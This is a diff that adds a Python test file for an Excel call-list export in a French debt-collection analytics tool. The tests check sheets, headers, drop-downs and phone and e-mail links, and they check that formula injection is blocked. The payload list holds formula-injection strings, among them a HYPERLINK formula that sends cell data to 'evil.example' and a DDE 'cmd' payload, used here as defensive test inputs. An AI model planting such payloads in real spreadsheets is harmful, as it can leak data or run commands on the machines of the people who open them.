@@ -1,0 +1,86 @@
+"""call_list.xlsx as written: sheets, headers, links, drop-downs, hidden key, and formula safety."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import openpyxl
+
+from relance_analytics.calllist import write_call_list
+from relance_analytics.calllist.workbook import SIDE_SHEETS, mail_url, phone_url, sheet_name
+
+from .helpers import actions, contacts, customers, disputes, items, run
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "=1+1", "+33 1 23", "-2+3", "@SUM(A1:A2)",
+            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _workbook(tmp_path: Path) -> Path:
+    it = items(("C1", "FA1", "2026-11-10", 1000), ("C2", "FA2", "2026-11-05", 900), ("C3", "FA3", "2026-10-01", 800),
+               ("C4", "FA4", "2026-09-01", 700))
+    cust = customers(it, status={"C4": "liquidation"})
+    cust["customer_name"] = cust["customer_name"].astype(object)
+    cust.loc[cust["customer_id"] == "C1", "customer_name"] = PAYLOADS[0]
+    it["customer_name"] = it["customer_name"].astype(object)
+    it.loc[it["customer_id"] == "C1", "customer_name"] = PAYLOADS[0]
+    cont = contacts(("C1", PAYLOADS[1], "accounting", "01 23 45 67 89", "compta@client.fr"),
+                    ("C2", PAYLOADS[4], "accounting", PAYLOADS[3], PAYLOADS[5]))
+    acts = actions(dict(date="2026-11-02", customer_id="C2", outcome="evasive", note=PAYLOADS[6]))
+    disp = disputes(dict(customer_id="C3", document_id="FA3", amount=800, opened="2026-10-02", owner=PAYLOADS[2],
+                         reason=PAYLOADS[7]))
+    return write_call_list(tmp_path / "call_list.xlsx", run(it, acts, disp, cust=cust, cont=cont))
+
+
+def test_sheets_headers_and_layout(tmp_path: Path):
+    wb = openpyxl.load_workbook(_workbook(tmp_path))
+    assert wb.sheetnames == ["Synthèse", "Claire Martin", "Relances par e-mail", *SIDE_SHEETS.values(), "Listes"]
+    ws = wb["Claire Martin"]
+    headers = [c.value for c in ws[1]]
+    assert headers[:4] == ["Rang", "Code client", "Raison sociale", "Motifs"]
+    assert headers[-11:] == ["Date de l'appel", "Résultat", "Code excuse", "Montant promis", "Date promise",
+                             "Mode de règlement", "Date de rappel", "Pièces concernées", "Interlocuteur joint", "Note",
+                             "Clé"]
+    assert ws.freeze_panes == "D2" and ws.auto_filter.ref.startswith("A1:")
+    key_letter = openpyxl.utils.get_column_letter(len(headers))
+    assert ws.column_dimensions[key_letter].hidden
+    assert wb["Listes"].sheet_state == "hidden"
+    money = headers.index("Montant net dû") + 1
+    assert "€" in ws.cell(2, money).number_format
+    outcome_letter = openpyxl.utils.get_column_letter(headers.index("Résultat") + 1)
+    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"}
+    assert lists[f"{outcome_letter}2:{outcome_letter}3"] == "Listes!$A$2:$A$11"      # the two rows of the list
+    assert [c.value for c in wb["Listes"]["A"]][1:4] == ["promesse", "litige", "excuse"]
+
+
+def test_phone_and_email_are_links_everything_else_is_text(tmp_path: Path):
+    wb = openpyxl.load_workbook(_workbook(tmp_path))
+    formulas = [(ws.title, cell.coordinate, cell.value) for ws in wb for row in ws.iter_rows() for cell in row
+                if cell.data_type == "f"]
+    assert formulas == []
+    ws = wb["Claire Martin"]
+    headers = {c.value: c.column for c in ws[1]}
+    rows = {ws.cell(r, headers["Code client"]).value: r for r in range(2, ws.max_row + 1)}
+    assert ws.cell(rows["C1"], headers["Raison sociale"]).value == PAYLOADS[0]
+    assert ws.cell(rows["C1"], headers["Interlocuteur"]).value == PAYLOADS[1]
+    phone = ws.cell(rows["C1"], headers["Téléphone"])
+    assert (phone.value, phone.hyperlink.target) == ("01 23 45 67 89", "tel:+33123456789")
+    mail = ws.cell(rows["C1"], headers["E-mail"])
+    assert (mail.value, mail.hyperlink.target) == ("compta@client.fr", "mailto:compta@client.fr")
+    # hostile phone / e-mail values: plain text, no link
+    assert ws.cell(rows["C2"], headers["Téléphone"]).hyperlink is None
+    assert ws.cell(rows["C2"], headers["E-mail"]).value == PAYLOADS[5]
+    assert ws.cell(rows["C2"], headers["E-mail"]).hyperlink is None
+    disputes_ws = wb["Litiges à résoudre"]
+    assert PAYLOADS[2] in [c.value for c in disputes_ws[2]]
+
+
+def test_url_and_sheet_name_helpers():
+    assert phone_url("01 23 45 67 89") == "tel:+33123456789"
+    assert phone_url("+32 2 123 45 67") == "tel:+3221234567"
+    assert phone_url("=1+1") is None and phone_url(None) is None
+    assert mail_url("a.b@c.fr") == "mailto:a.b@c.fr" and mail_url("=HYPERLINK(1)") is None
+    taken: set[str] = set()
+    assert sheet_name("Claire Martin", taken) == "Claire Martin"
+    assert sheet_name("Claire Martin", taken) == "Claire Martin (2)"
+    assert sheet_name("Synthèse", taken) == "Synthèse (2)"
+    assert sheet_name("A/B:C*D?" + "x" * 40, taken) == ("A B C D " + "x" * 40)[:31]
